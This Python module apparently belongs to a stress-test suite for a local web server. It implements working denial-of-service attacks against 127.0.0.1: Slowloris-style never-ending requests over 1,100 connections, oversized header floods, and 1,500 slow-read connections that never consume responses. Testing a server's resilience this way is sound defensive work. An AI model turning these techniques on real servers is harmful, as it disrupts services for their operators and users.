"""Attacks that hold connections: requests that never end, and answers that no one reads."""

from __future__ import annotations

import asyncio
import socket
import time

from attacker import ADDRESS, Attacker
from worst import Asked, ask_all

AT_FIRST = 1.0
"""Seconds in which many connections are made: no network brings them all at one moment."""

HALVES = 1100
"""More than the server may have open."""

HALF = b"GET /site HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "


async def halves(attacker: Attacker) -> None:
    """Requests that never end, a byte a second; who is turned away comes back."""
    await attacker.all_within(AT_FIRST, [send_slowly(attacker) for _ in range(HALVES)])


async def send_slowly(attacker: Attacker) -> None:
    """One connection after the other that says next to nothing."""
    while attacker.goes_on():
        try:
            await half_request(attacker)
        except OSError:
            attacker.got["turned away"] += 1
        await asyncio.sleep(1)


async def half_request(attacker: Attacker) -> None:
    """Sends one request until no one listens any more."""
    reader, writer = await asyncio.open_connection(ADDRESS, attacker.way.port)
    try:
        writer.write(HALF)
        ended = asyncio.create_task(reader.read())
        while attacker.goes_on():
            done, _ = await asyncio.wait([ended], timeout=1)
            if done:
                ended.result()
                attacker.got["closed"] += 1
                return
            writer.write(b"x")
        attacker.got["held to the end"] += 1
        ended.cancel()
    finally:
        writer.close()


# -- heads, and answers that no one reads ------------------------------------------------------

LONG_HEAD = [(f"x-{number}", "y" * 50) for number in range(240)]
"""Nearly as much as a server reads."""

DEAF = 1500
"""Connections whose answers are never read. They stay for all of the run."""

UNREAD = b"GET /favicon.svg HTTP/1.1\r\nhost: 127.0.0.1\r\n\r\n" * 40


async def heads(attacker: Attacker) -> None:
    """Requests for a file with a very long head."""
    await ask_all(attacker, lambda: Asked("GET", "/favicon.svg", headers=LONG_HEAD))


async def deaf(attacker: Attacker) -> None:
    """Connections that ask for files and never read them."""
    for _ in range(DEAF if attacker.is_first() else 0):
        if not attacker.goes_on():
            break
        try:
            attacker.held.append(deaf_connection(attacker.way.port))
            attacker.got["held"] += 1
        except OSError:
            attacker.got["turned away"] += 1
        await asyncio.sleep(0.001)
    await asyncio.sleep(max(0.0, attacker.until - time.monotonic()))


def deaf_connection(port: int) -> socket.socket:
    """A connection with some requests whose answers fit into none of its buffers."""
    connection = socket.socket()
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1024)
    connection.settimeout(1)
    connection.connect((ADDRESS, port))
    connection.sendall(UNREAD)
    return connection
